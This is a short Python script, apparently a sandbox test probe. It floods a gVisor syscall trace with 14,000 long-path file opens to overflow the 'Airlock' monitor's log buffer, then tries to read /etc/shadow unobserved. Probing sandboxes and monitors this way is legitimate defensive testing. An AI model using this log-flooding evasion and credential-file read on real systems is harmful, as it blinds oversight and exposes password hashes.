# Blinding the telemetry: flood gVisor's syscall trace first (14,000 opens of 3,000-character paths,
# over 80 MiB of trace lines, more than any log buffer Airlock could keep), then read /etc/shadow
# and hope nobody is looking any more.
import os

LONG = "/tmp/" + "f" * 3000
for n in range(14000):
    try:
        os.close(os.open(f"{LONG}{n}", os.O_RDONLY))
    except OSError:
        pass
print("flood done")
try:
    with open("/etc/shadow") as shadow:
        shadow.read()
    print("SHADOW_READ")
except OSError as error:
    print("refused /etc/shadow", error.errno)
